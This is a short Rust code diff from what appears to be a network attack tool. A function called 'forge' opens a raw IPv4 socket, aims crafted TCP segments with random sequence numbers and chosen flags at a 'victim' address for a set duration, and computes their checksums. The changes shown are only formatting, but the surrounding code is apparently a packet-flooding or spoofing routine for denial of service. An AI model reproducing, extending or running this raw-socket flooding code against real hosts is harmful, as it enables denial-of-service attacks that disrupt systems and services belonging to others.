@@ -26,7 +26,11 @@ pub fn forge(
     seed: u64,
     length: Duration,
 ) -> io::Result<Deeds> {
-    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
+    let socket = Socket::new(
+        Domain::IPV4,
+        Type::RAW,
+        Some(Protocol::from(libc::IPPROTO_RAW)),
+    )?;
     let to = SockAddr::from(SocketAddr::from((victim, 0)));
     let end = Instant::now() + length;
     let mut deeds = Deeds::default();
@@ -58,7 +62,7 @@ fn segment(from: SocketAddrV4, to: SocketAddrV4, random: u64) -> Vec<u8> {
     tcp.extend_from_slice(&to.port().to_be_bytes());
     tcp.extend_from_slice(&((random >> 32) as u32).to_be_bytes());
     tcp.extend_from_slice(&(random as u32).to_be_bytes());
-    tcp.extend_from_slice(&[(TCP / 4 << 4) as u8, flags, 0xff, 0xff, 0, 0, 0, 0]);
+    tcp.extend_from_slice(&[((TCP / 4) << 4) as u8, flags, 0xff, 0xff, 0, 0, 0, 0]);
     tcp.extend_from_slice(data);
     let sum = checksum(from, to, &tcp);
     tcp[16..18].copy_from_slice(&sum.to_be_bytes());
